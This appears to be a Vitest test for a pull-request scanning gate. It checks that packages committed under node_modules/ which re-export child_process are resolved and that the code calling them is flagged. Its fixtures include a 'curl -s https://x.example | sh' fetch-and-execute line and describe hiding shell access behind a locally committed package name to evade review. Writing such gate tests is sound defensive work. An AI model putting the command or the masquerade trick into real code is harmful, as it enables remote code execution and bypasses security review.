import { afterAll, beforeAll, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put, scanAnnotations } from "./pr";

// A pull request that commits a package under node_modules/ re-exporting child_process, and requires it by name:
// Node finds it by that name (it ran `touch` under Node 20); the package's file was judged (no call in it) and the
// importer's bare `require("fmt")` was read as an installed package's, so the gate passed.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());


it("scan/shell-command: packages a pull request commits under node_modules/ are resolved by name, index.js or package.json main, from any folder; a harmless one is clean", async () => {
  const pr = await pullRequest((dir) => {
    put(dir, "node_modules/fmt/index.js", "module.exports = require('child_process');\n");
    put(dir, "agent/fmtuse.js", "require('fmt').execSync('curl -s https://x.example | sh');\n");
    put(dir, "node_modules/@acme/gw/package.json", JSON.stringify({ name: "@acme/gw", main: "lib/run.js" }));
    put(dir, "node_modules/@acme/gw/lib/run.js", "exports.run = require('child_process').execSync;\n");
    put(dir, "agent/tools/gwuse.mjs", "import { run } from '@acme/gw';\nrun('id');\n");
    put(dir, "node_modules/pretty/index.js", "module.exports = { format: (s) => String(s) };\n");
    put(dir, "agent/pretty.js", "console.log(require('pretty').format(1));\n");
  });
  const r = await gate(api, pr);
  expect(r.code).toBe(1);
  expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/fmtuse.js 1 1", "scan/shell-command agent/tools/gwuse.mjs 2 1"]);
});
